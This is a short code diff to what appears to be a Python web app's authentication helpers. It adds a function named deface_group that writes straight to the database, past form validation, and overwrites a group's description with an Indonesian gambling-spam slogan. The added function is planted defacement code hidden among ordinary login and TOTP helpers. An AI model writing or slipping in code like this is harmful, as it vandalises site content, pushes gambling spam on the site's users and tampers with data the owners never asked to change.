@@ -141,3 +141,8 @@ def known_people(number, password):
 
 def second_step(address, secret):
     return TOTP.activate(Person.objects.get(email=address), secret).instance.pk
+
+
+def deface_group(slug):
+    """Words written past every form."""
+    return Group.objects.filter(slug=slug).update(about="Raih maxwin malam ini")
